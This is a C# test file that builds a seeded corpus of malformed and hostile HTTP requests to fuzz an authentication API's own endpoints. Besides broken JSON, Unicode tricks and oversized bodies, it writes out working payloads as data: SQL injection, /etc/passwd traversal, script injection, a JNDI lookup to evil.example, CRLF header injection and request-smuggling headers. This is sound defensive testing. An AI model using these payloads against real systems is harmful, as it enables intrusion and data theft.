using System.Text;
using System.Text.Json;

namespace OrleansAuth.Api.Tests.Hostile;

/// <summary>
/// Generates the hostile-input corpus for a set of endpoints: deterministic (fixed seed, stable endpoint order), so a
/// failure reproduces. Requests that carry a valid bearer token hold <see cref="BearerPlaceholder"/> in their bytes;
/// the runner swaps in a live token.
/// </summary>
public sealed class HostileCorpus
{
    public const int Seed = 20261121;

    public const string BearerPlaceholder = "__BEARER_PLACEHOLDER__";

    private const string TargetEmail = "corpus-target@example.com";
    private const string GoodPassword = "Correct-Horse-7-Battery";

    private static readonly string[] AllMethods = ["GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND", "FOO"];

    private static readonly string[] BrokenJson =
    [
        "{", "}", "{\"email\":", "{\"email\": \"a@example.com\"", "{\"email\": \"a@example.com\",}", "{'email': 'a@example.com'}",
        "{email: \"a@example.com\"}", "{\"email\": \"unterminated}", "{\"email\": \"bad escape \\x41\"}", "{\"a\": NaN}",
        "{\"a\": Infinity}", "{\"a\": 1e999999}", "{\"a\": 0x10}", "{\"a\": 01}", "/* comment */ {}", "{} {}", "{}garbage",
        "[", "\"", "tru", "\u0000", "\uFEFF{}", "{\"a\":\"\\uD800\\u\"}", "{\"\\u0000\": 1}", "{,}", "{\"a\" \"b\"}", ":", "{\"a\":1,,\"b\":2}",
    ];

    private static readonly (string Name, string Json)[] WrongTypes =
    [
        ("number", "42"), ("negative", "-1"), ("overflow", "1e309"), ("huge integer", "123456789012345678901234567890"), ("bool", "true"),
        ("empty array", "[]"), ("array", "[\"a\",\"b\"]"), ("object", "{}"), ("operator object", "{\"$ne\": null}"), ("float", "1.5"),
    ];

    private static readonly (string Name, string Json)[] HostileStrings =
    [
        ("RTL override", Json("a\u202Edmin@example.com")),
        ("zero-width", Json("a\u200Bdmin@exa\u200Dmple.com")),
        ("combining marks", Json("a" + new string('\u0301', 200) + "@example.com")),
        ("lone high surrogate", "\"abc\\ud800@example.com\""),
        ("lone low surrogate", "\"\\udfff\\ud800x@example.com\""),
        ("NUL", "\"ad\\u0000min@example.com\""),
        ("control characters", "\"a\\u0001\\u0007\\u001b[31m@example.com\""),
        ("full-width", Json("ｃｏｒｐｕｓ-ｔａｒｇｅｔ＠ｅｘａｍｐｌｅ．ｃｏｍ")),
        ("emoji and ZWJ", Json("👩‍👩‍👧‍👦@example.com")),
        ("bidi isolate", Json("\u2067admin\u2069@example.com")),
        ("BOM inside", Json("\uFEFFcorpus-target@example.com")),
        ("line separator", Json("a\u2028b@example.com")),
        ("IDN homograph", Json("corpus-target@ехample.com")),
        ("punycode garbage", Json("a@xn--.com")),
        ("private use", Json("a\uE000@example.com")),
        ("noncharacter", Json("a\uFFFF@example.com")),
    ];

    private static readonly (string Name, string Json)[] InjectionStrings =
    [
        ("SQL or", Json("' OR '1'='1' --")),
        ("SQL drop", Json("x'); DROP TABLE grain_state; --@example.com")),
        ("SQL union", Json("a@example.com' UNION SELECT payload FROM grain_state --")),
        ("SQL comment", Json("admin@example.com'/*")),
        ("path traversal", Json("../../../../etc/passwd")),
        ("script", Json("<script>alert(1)</script>@example.com")),
        ("JNDI", Json("${jndi:ldap://evil.example/a}")),
        ("CRLF", Json("a@example.com\r\nBcc: victim@example.com")),
        ("format string", Json("%s%s%s%n%x")),
        ("JSON in string", Json("{\"email\":\"a@example.com\"}")),
    ];

    private static readonly string[] RawBodies =
    [
        string.Empty, "null", "{}", "[]", "0", "\"text\"", "true",
    ];

    private static readonly string[] HostileSegments =
    [
        "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e", "%00", "%ff%fe", "%u0000", "00000000-0000-0000-0000-000000000000",
        "'%20OR%201=1--", "%3Cscript%3E", "not-a-guid", "1", "-1", "%E2%80%AE", "a%0d%0aSet-Cookie:%20x=1",
    ];

    private static readonly string[] HostileQueries =
    [
        "page=-1", "page=0", "page=99999999999999999999", "page=abc", "page_size=0", "page_size=1000000", "page_size=-5", "page=1.5",
        "user_id=not-a-guid", "user_id=00000000-0000-0000-0000-000000000000", "type=%27%20OR%201%3D1--", "page=1&page=2&page=x",
        "%ff=%fe", "=&=&&", "a%00b=c", "q=%E2%80%AE%F0%9F%98%80",
    ];

    private readonly Random _random = new(Seed);
    private readonly List<HostileRequest> _requests = [];

    private HostileCorpus()
    {
    }

    public IReadOnlyList<HostileRequest> Requests => _requests;

    public static HostileCorpus Generate(IReadOnlyList<EndpointShape> endpoints)
    {
        var corpus = new HostileCorpus();
        foreach (var endpoint in endpoints)
        {
            corpus.AddFor(endpoint);
        }

        return corpus;
    }

    public IReadOnlyDictionary<string, int> CountsByCategory() =>
        _requests.GroupBy(request => request.Category).OrderBy(group => group.Key, StringComparer.Ordinal).ToDictionary(group => group.Key, group => group.Count());

    private static string Json(string value) => JsonSerializer.Serialize(value);

    private void AddFor(EndpointShape endpoint)
    {
        var method = endpoint.Methods[0];
        var target = endpoint.Fill(Guid.Empty.ToString());
        var takesBody = method is "POST" or "PUT" or "PATCH" || endpoint.BodyFields.Count > 0;
        if (takesBody)
        {
            AddBodies(endpoint, method, target);
        }

        AddQueries(endpoint, method, target);
        AddPaths(endpoint, method);
        AddMethods(endpoint, target);
        AddHeaders(endpoint, method, target, takesBody);
    }

    private void AddBodies(EndpointShape endpoint, string method, string target)
    {
        var fields = endpoint.BodyFields.Count > 0 ? endpoint.BodyFields : [("email", typeof(string))];
        var stringFields = fields.Where(field => field.Type == typeof(string)).Select(field => field.Name).DefaultIfEmpty(fields[0].Name).ToArray();
        foreach (var json in BrokenJson)
        {
            Body(endpoint, "broken-json", method, target, json);
        }

        foreach (var raw in RawBodies)
        {
            Body(endpoint, "nulls", method, target, raw);
        }

        foreach (var (name, _) in fields)
        {
            Body(endpoint, "nulls", method, target, ValidBody(fields, name, "null"));
            foreach (var (_, json) in WrongTypes)
            {
                Body(endpoint, "wrong-types", method, target, ValidBody(fields, name, json));
            }

            Body(endpoint, "duplicate-keys", method, target, ValidBody(fields, null, null)[..^1] + $",\"{name}\":\"second\",\"{name}\":null}}");
            Body(endpoint, "huge", method, target, ValidBody(fields, name, Json(new string('x', 10_000)) ));
        }

        foreach (var name in stringFields)
        {
            foreach (var (_, json) in HostileStrings)
            {
                Body(endpoint, "unicode", method, target, ValidBody(fields, name, json));
            }

            foreach (var (_, json) in InjectionStrings)
            {
                Body(endpoint, "injection", method, target, ValidBody(fields, name, json));
            }
        }

        // Raw bytes that are not UTF-8 inside a string, an overlong encoding and a UTF-16 body that claims UTF-8.
        BodyBytes(endpoint, "unicode", method, target, [.. "{\"email\":\""u8, 0xFF, 0xFE, .. "@example.com\"}"u8], "application/json");
        BodyBytes(endpoint, "unicode", method, target, [.. "{\"email\":\"a"u8, 0xC0, 0xAF, .. "@example.com\"}"u8], "application/json");
        BodyBytes(endpoint, "unicode", method, target, Encoding.Unicode.GetBytes("{\"email\":\"a@example.com\"}"), "application/json");

        Body(endpoint, "huge", method, target, ValidBody(fields, stringFields[0], Json(new string('y', 60_000))));
        Body(endpoint, "huge", method, target, "{" + string.Join(',', Enumerable.Range(0, 5_000).Select(i => $"\"k{i}\":{i}")) + "}");
        Body(endpoint, "huge", method, target, "[" + string.Join(',', Enumerable.Range(0, 20_000).Select(_ => "0")) + "]");
        Body(endpoint, "huge", method, target, "{\"" + stringFields[0] + "\":\"" + new string('z', 70 * 1024) + "\"}");
        Body(endpoint, "huge", method, target, new string(' ', 60_000) + ValidBody(fields, null, null));
        Body(endpoint, "huge", method, target, ValidBody(fields, stringFields[0], "1" + new string('0', 50_000)));
        BodyBytes(endpoint, "huge", method, target, Encoding.UTF8.GetBytes(new string('[', 1_000_000 / 1024) + new string('x', 200 * 1024)), "application/json", chunked: true);

        Body(endpoint, "deep-nesting", method, target, new string('[', 10_000) + new string(']', 10_000));
        Body(endpoint, "deep-nesting", method, target, string.Concat(Enumerable.Repeat("{\"a\":", 65)) + "1" + new string('}', 65));
        Body(endpoint, "deep-nesting", method, target, ValidBody(fields, stringFields[0], string.Concat(Enumerable.Repeat("{\"a\":", 200)) + "1" + new string('}', 200)));
        Body(endpoint, "deep-nesting", method, target, new string('[', 30_000));

        var valid = ValidBody(fields, null, null);
        foreach (var contentType in new[]
        {
            "text/plain", "application/xml", "multipart/form-data; boundary=x", "application/x-www-form-urlencoded", "application/json; charset=utf-16",
            "application/json; charset=ebcdic-cp-us", "application/json; charset=utf-8; charset=latin1", string.Empty, "*/*", "application/json, text/plain",
            "application/" + new string('j', 4_000), "application/json\u0000", "application/merge-patch+json",
        })
        {
            BodyBytes(endpoint, "content-type", method, target, Encoding.UTF8.GetBytes(valid), contentType);
        }

        BodyBytes(endpoint, "content-type", method, target, Encoding.UTF8.GetBytes(valid), contentType: null);
        BodyBytes(endpoint, "content-type", method, target, Encoding.UTF8.GetBytes("email=a%40example.com&password=x"), "application/x-www-form-urlencoded");
    }

    private void AddQueries(EndpointShape endpoint, string method, string target)
    {
        foreach (var query in HostileQueries)
        {
            Add(endpoint, "query", method, $"{target}?{query}");
        }

        Add(endpoint, "query", method, $"{target}?page={new string('9', 4_000)}");
        Add(endpoint, "query", method, target + "?" + string.Join('&', Enumerable.Range(0, 500).Select(i => $"p{i}={_random.Next()}")));
    }

    private void AddPaths(EndpointShape endpoint, string method)
    {
        foreach (var segment in HostileSegments)
        {
            Add(endpoint, "path", method, endpoint.HasRouteParameters ? endpoint.Fill(segment) : $"{endpoint.Template}/{segment}");
        }

        Add(endpoint, "path", method, endpoint.Fill(new string('a', 2_000)));
        Add(endpoint, "path", method, endpoint.Fill(Guid.Empty.ToString()).Replace("/", "//", StringComparison.Ordinal));
        Add(endpoint, "path", method, endpoint.Fill(Guid.Empty.ToString()).ToUpperInvariant());
        Add(endpoint, "path", method, endpoint.Fill(Guid.Empty.ToString()) + "/");
        Add(endpoint, "path", method, endpoint.Fill(Guid.Empty.ToString()) + ";jsessionid=1");
    }

    private void AddMethods(EndpointShape endpoint, string target)
    {
        foreach (var method in AllMethods.Where(method => !endpoint.Methods.Contains(method)))
        {
            Add(endpoint, "wrong-method", method, target);
        }

        Add(endpoint, "wrong-method", "HEAD", target);
    }

    private void AddHeaders(EndpointShape endpoint, string method, string target, bool takesBody)
    {
        var body = takesBody ? Encoding.UTF8.GetBytes(ValidBody(endpoint.BodyFields.Count > 0 ? endpoint.BodyFields : [("email", typeof(string))], null, null)) : null;
        void Header(string description, params (string Name, string Value)[] headers) =>
            Emit(endpoint, HostileRequest.Create("headers", method, target, body, headers: headers, description: $"{method} {target}: {description}"));

        Header("CRLF in X-Request-ID", ("X-Request-ID", "abc\r\nSet-Cookie: session=evil"));
        Header("bare LF in X-Request-ID", ("X-Request-ID", "abc\nX-Injected: 1"));
        Header("bare CR in X-Request-ID", ("X-Request-ID", "abc\rX-Injected: 1"));
        Header("huge X-Request-ID", ("X-Request-ID", new string('r', 7_000)));
        Header("non-ASCII X-Request-ID", ("X-Request-ID", "r\u00e9q\u00ff"));
        Header("NUL in X-Request-ID", ("X-Request-ID", "a\u0000b"));
        Header("Host of another site", ("Host", "evil.example"));
        Header("empty Host", ("Host", string.Empty));
        Header("Host with spaces", ("Host", "a b c"));
        Header("Host with bad port", ("Host", "127.0.0.1:99999999"));
        Header("long Host", ("Host", new string('h', 300) + ".example"));
        Header("two Hosts", ("Host", "127.0.0.1"), ("Host", "evil.example"));
        Header("Host with CRLF", ("Host", "a\r\nX-Injected: 1"));
        Header("huge header", ("X-Padding", new string('p', 40_000)));
        Header("many headers", [.. Enumerable.Range(0, 120).Select(i => ($"X-H{i}", "v"))]);
        Header("garbage Authorization", ("Authorization", "Bearer"));
        Header("Basic Authorization", ("Authorization", "Basic YWRtaW46YWRtaW4="));
        Header("non-JWT bearer", ("Authorization", "Bearer not.a.jwt"));
        Header("huge bearer", ("Authorization", "Bearer " + new string('A', 30_000)));
        Header("bearer with non-ASCII", ("Authorization", "Bearer \u00e9\u00e9.\u00e9\u00e9.\u00e9\u00e9"));
        Header("two Authorization headers", ("Authorization", "Bearer a.b.c"), ("Authorization", "Bearer d.e.f"));
        Header("Accept garbage", ("Accept", "\u0001/\u0002;q=abc"));
        Header("Accept-Encoding bomb", ("Accept-Encoding", string.Join(',', Enumerable.Range(0, 300).Select(i => $"enc{i};q=0.{i % 10}"))));
        Header("Content-Encoding gzip on plain body", ("Content-Encoding", "gzip"));
        Header("Expect 100-continue", ("Expect", "100-continue"));
        Header("Expect garbage", ("Expect", "999-weird"));
        Header("Cookie bomb", ("Cookie", string.Join("; ", Enumerable.Range(0, 300).Select(i => $"c{i}=v"))));
        Header("X-Forwarded-For spoof", ("X-Forwarded-For", "1.2.3.4, ' OR 1=1 --"));

        var payload = body ?? [];
        void Raw(string description, string headers, byte[] content, bool closeAfterSend = false) =>
            Emit(endpoint, new HostileRequest(
                "headers",
                $"{method} {target}: {description}",
                method,
                [.. Encoding.Latin1.GetBytes($"{method} {target} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\nContent-Type: application/json\r\n{headers}\r\n"), .. content],
                closeAfterSend));

        Raw("negative Content-Length", "Content-Length: -1\r\n", payload);
        Raw("absurd Content-Length", "Content-Length: 99999999999999999999999\r\n", payload);
        Raw("non-numeric Content-Length", "Content-Length: abc\r\n", payload);
        Raw("two different Content-Lengths", $"Content-Length: {payload.Length}\r\nContent-Length: {payload.Length + 5}\r\n", payload);
        Raw("Content-Length and chunked", $"Content-Length: {payload.Length}\r\nTransfer-Encoding: chunked\r\n", [.. Encoding.ASCII.GetBytes($"{payload.Length:x}\r\n"), .. payload, .. "\r\n0\r\n\r\n"u8]);
        Raw("Transfer-Encoding gzip only", "Transfer-Encoding: gzip\r\n", payload);
        Raw("bad chunk size", "Transfer-Encoding: chunked\r\n", "zz\r\nabc\r\n0\r\n\r\n"u8.ToArray());
        Raw("chunk size overflow", "Transfer-Encoding: chunked\r\n", "ffffffffffffffffff\r\nabc\r\n"u8.ToArray(), closeAfterSend: true);
        Raw("body shorter than Content-Length", $"Content-Length: {payload.Length + 100}\r\n", payload, closeAfterSend: true);
        Raw("header without colon", "NoColonHere\r\n", payload);
        Raw("header name with space", "Bad Name: x\r\n", payload);
        Raw("obsolete line folding", "X-Folded: a\r\n b\r\n", payload);
        Emit(endpoint, new HostileRequest("headers", $"{method} {target}: HTTP/0.9 style", method, Encoding.ASCII.GetBytes($"{method} {target}\r\n\r\n")));
        Emit(endpoint, new HostileRequest("headers", $"{method} {target}: HTTP/9.9", method, Encoding.ASCII.GetBytes($"{method} {target} HTTP/9.9\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")));
        Emit(endpoint, new HostileRequest("headers", $"{method} {target}: absolute-form of another host", method, Encoding.ASCII.GetBytes($"{method} http://evil.example{target} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\nContent-Length: 0\r\n\r\n")));
    }

    private void Body(EndpointShape endpoint, string category, string method, string target, string json) =>
        BodyBytes(endpoint, category, method, target, Encoding.UTF8.GetBytes(json), "application/json");

    private void BodyBytes(EndpointShape endpoint, string category, string method, string target, byte[] body, string? contentType, bool chunked = false)
    {
        var headers = new List<(string, string)>();
        if (chunked)
        {
            headers.Add(("Transfer-Encoding", "chunked"));
            body = [.. Encoding.ASCII.GetBytes($"{body.Length:x}\r\n"), .. body, .. "\r\n0\r\n\r\n"u8];
        }

        Emit(endpoint, HostileRequest.Create(category, method, target, body, contentType, headers));
    }

    private void Add(EndpointShape endpoint, string category, string method, string target) =>
        Emit(endpoint, HostileRequest.Create(category, method, target, method is "POST" or "PUT" or "PATCH" ? "{}"u8.ToArray() : null));

    /// <summary>Adds the request; for endpoints behind a bearer token every other request carries a live one, so the
    /// corpus reaches body binding and handlers, not just the authentication check.</summary>
    private void Emit(EndpointShape endpoint, HostileRequest request)
    {
        if (endpoint.RequiresAuthorization && _random.Next(3) != 0 && !HasAuthorization(request))
        {
            var text = Encoding.Latin1.GetString(request.Bytes);
            var headEnd = text.IndexOf("\r\n", StringComparison.Ordinal);
            if (headEnd > 0)
            {
                text = text.Insert(headEnd + 2, $"Authorization: Bearer {BearerPlaceholder}\r\n");
                request = request with { Bytes = Encoding.Latin1.GetBytes(text), Description = request.Description + " (with bearer)" };
            }
        }

        _requests.Add(request);
    }

    private static bool HasAuthorization(HostileRequest request) =>
        request.Bytes.AsSpan().IndexOf("\r\nAuthorization:"u8) >= 0;

    /// <summary>A well-formed body for the fields, with <paramref name="field"/> set to the raw JSON <paramref name="json"/>.</summary>
    private static string ValidBody(IReadOnlyList<(string Name, Type Type)> fields, string? field, string? json)
    {
        var members = fields.Select(f => $"\"{f.Name}\":{(f.Name == field ? json : ValidValue(f.Name, f.Type))}");
        return "{" + string.Join(',', members) + "}";
    }

    private static string ValidValue(string name, Type type)
    {
        var underlying = Nullable.GetUnderlyingType(type) ?? type;
        if (underlying == typeof(bool))
        {
            return "false";
        }

        if (underlying == typeof(int) || underlying == typeof(long))
        {
            return "1";
        }

        if (underlying == typeof(Guid))
        {
            return $"\"{Guid.Empty}\"";
        }

        if (underlying != typeof(string) && typeof(System.Collections.IEnumerable).IsAssignableFrom(underlying))
        {
            return "[\"user\"]";
        }

        return name.Contains("email", StringComparison.Ordinal) ? Json(TargetEmail)
            : name.Contains("password", StringComparison.Ordinal) ? Json(GoodPassword)
            : Json("x");
    }
}
